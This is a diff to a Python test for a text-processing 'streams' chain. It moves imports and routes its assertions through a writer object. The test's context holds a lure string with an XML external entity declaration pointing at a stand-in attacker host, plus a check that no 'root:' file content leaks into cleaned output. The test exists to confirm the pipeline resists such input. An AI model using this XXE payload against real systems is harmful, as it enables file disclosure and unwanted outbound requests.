@@ -8,11 +8,12 @@ from typing import NoReturn
 import orjson
 import pytest
 
-from streams.chain import Chain, Ending, Enriched
+from streams.chain import Chain
 from streams.match import View
 from streams.page import Position, milliseconds, read_page
 from streams.samples import samples
 from streams.settings import load_settings
+from streams.writing import Ending, Enriched
 
 SENTENCE = "The harbour council of Nordvik approved the winter timetable after a long debate near the old pier. "
 LURES = f"""<!DOCTYPE html [<!ENTITY leak SYSTEM "http://evil.example/dtd">]>
@@ -55,7 +56,7 @@ def test_the_whole_chain_works_without_a_network() -> None:
         if not isinstance(end, Ending):
             end = chain.enrich(end)
         ends.append(end)
-        assert chain.published(end) if isinstance(end, Enriched) else chain.decided(end)
+        assert chain.writer.published(end) if isinstance(end, Enriched) else chain.writer.decided(end)
     assert isinstance(ends[-1], Enriched)
     assert "harbour council" in ends[-1].article.cleaned.text
     assert "root:" not in ends[-1].article.cleaned.text
